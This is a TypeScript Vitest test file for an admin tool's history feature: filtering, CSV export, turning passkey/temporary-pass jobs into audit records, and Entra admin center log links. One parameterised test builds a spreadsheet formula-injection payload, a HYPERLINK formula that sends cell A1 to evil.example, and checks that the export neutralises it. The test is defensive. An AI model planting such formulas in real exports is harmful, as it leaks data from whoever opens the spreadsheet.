import { describe, expect, it } from 'vitest';
import {
  entraLogLinks,
  historyRows,
  matchesFilter,
  neutraliseFormula,
  HISTORY_COLUMNS,
  type HistoryRecord,
} from '../../src/shared/history';
import { recordFromJob } from '../../src/background/history/recorder';
import type { Job } from '../../src/shared/protocol';

const rec = (over: Partial<HistoryRecord>): HistoryRecord => ({
  id: 'r1',
  time: Date.UTC(2026, 10, 26, 9, 0),
  admin: 'nestorw@contoso.onmicrosoft.com',
  userId: 'u1',
  userPrincipalName: 'meganb@contoso.onmicrosoft.com',
  userDisplayName: 'Megan Bowen',
  mode: 'automatic',
  outcome: 'succeeded',
  requestIds: ['a', 'b'],
  ...over,
});

describe('history filters', () => {
  it('match the user by UPN or name, case-insensitively', () => {
    expect(matchesFilter(rec({}), { user: 'MEGAN' })).toBe(true);
    expect(matchesFilter(rec({}), { user: 'bowen' })).toBe(true);
    expect(matchesFilter(rec({}), { user: 'lee' })).toBe(false);
    expect(matchesFilter(rec({}), { user: '  ' })).toBe(true);
  });
  it('match the outcome and an inclusive date range', () => {
    const r = rec({ outcome: 'failed' });
    expect(matchesFilter(r, { outcome: 'failed' })).toBe(true);
    expect(matchesFilter(r, { outcome: 'succeeded' })).toBe(false);
    expect(matchesFilter(r, { outcome: '' })).toBe(true);
    expect(matchesFilter(r, { from: r.time, to: r.time })).toBe(true);
    expect(matchesFilter(r, { from: r.time + 1 })).toBe(false);
    expect(matchesFilter(r, { to: r.time - 1 })).toBe(false);
  });
});

describe('history export rows', () => {
  it('have every column, ISO times and request ids joined', () => {
    const [row] = historyRows([rec({ finishedAt: Date.UTC(2026, 10, 26, 9, 1), keyModel: null })]);
    expect(Object.keys(row!)).toEqual(HISTORY_COLUMNS);
    expect(row!.time).toBe('2026-11-26T09:00:00.000Z');
    expect(row!.finishedAt).toBe('2026-11-26T09:01:00.000Z');
    expect(row!.requestIds).toBe('a b');
    expect(row!.keyModel).toBe('');
  });

  /** Each character a spreadsheet starts a formula with, in every text column an outsider can influence. */
  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
  const COLUMNS = ['userDisplayName', 'userPrincipalName', 'passkeyName', 'keyModel', 'error'] as const;
  const cases = TRIGGERS.flatMap((t) => COLUMNS.map((column) => ({ t: JSON.stringify(t), trigger: t, column })));
  it.each(cases)('neutralise a cell starting with $t in $column', ({ trigger, column }) => {
    const value = `${trigger}HYPERLINK("https://evil.example/?"&A1,"Click")`;
    const [row] = historyRows([rec({ [column]: value })]);
    expect(row![column]).toBe(`'${value}`);
  });
  it('leave ordinary cells as they are', () => {
    for (const v of ['Megan Bowen', 'YubiKey 5 NFC', '2026-11-26T09:00:00.000Z', "O'Brien", 'a=b', ''])
      expect(neutraliseFormula(v)).toBe(v);
    const [row] = historyRows([rec({})]);
    expect(row!.userDisplayName).toBe('Megan Bowen');
    expect(row!.time).toBe('2026-11-26T09:00:00.000Z');
  });
});

describe('a job as a history record', () => {
  const job: Job = {
    id: 'j1',
    mode: 'guided',
    user: { id: 'u1', displayName: 'Megan Bowen', userPrincipalName: 'meganb@contoso.onmicrosoft.com' },
    phase: 'failed',
    steps: [],
    startedAt: 1000,
    updatedAt: 2000,
    requestIds: ['x', 'x', 'y'],
    error: { code: 'tap-refused', message: 'Microsoft refused the pass.', action: 'Try again.' },
    guided: {
      stage: 'signin',
      paused: false,
      manual: false,
      incognito: false,
      passkeyName: 'Key',
      tapDeliveries: 1,
      signInAttempts: 1,
      tapId: 'tap-id',
    },
  };
  it('keeps what an auditor needs and drops repeats', () => {
    const r = recordFromJob(job, 'nestorw@contoso.onmicrosoft.com');
    expect(r).toMatchObject({
      id: 'j1',
      outcome: 'failed',
      finishedAt: 2000,
      mode: 'guided',
      errorCode: 'tap-refused',
      requestIds: ['x', 'y'],
    });
    expect(r.error).toContain('Microsoft refused the pass.');
  });
  it('keeps the admin who started it', () => {
    expect(recordFromJob(job, 'someone-else', recordFromJob(job, 'nestorw@contoso.onmicrosoft.com')).admin).toBe(
      'nestorw@contoso.onmicrosoft.com',
    );
  });
  it('never carries the pass or the job\u2019s internals', () => {
    const json = JSON.stringify(recordFromJob({ ...job, guided: { ...job.guided!, tapId: 'tap-id' } }, 'a'));
    expect(json).not.toMatch(/tap-id|tapDeliveries|passkeyName":"Key"/);
  });
  it('is still running until the job ends', () => {
    const r = recordFromJob({ ...job, phase: 'waiting-for-key', error: undefined }, 'a');
    expect(r.outcome).toBe('running');
    expect(r.finishedAt).toBeUndefined();
  });
});

describe('Entra admin center links', () => {
  it('point at the user\u2019s sign-in and audit logs', () => {
    expect(entraLogLinks('https://entra.microsoft.com', 'u 1')).toEqual({
      signIns:
        'https://entra.microsoft.com/#view/Microsoft_AAD_UsersAndTenants/UserProfileMenuBlade/~/SignIns/userId/u%201',
      audit:
        'https://entra.microsoft.com/#view/Microsoft_AAD_UsersAndTenants/UserProfileMenuBlade/~/AuditLogs/userId/u%201',
    });
  });
});
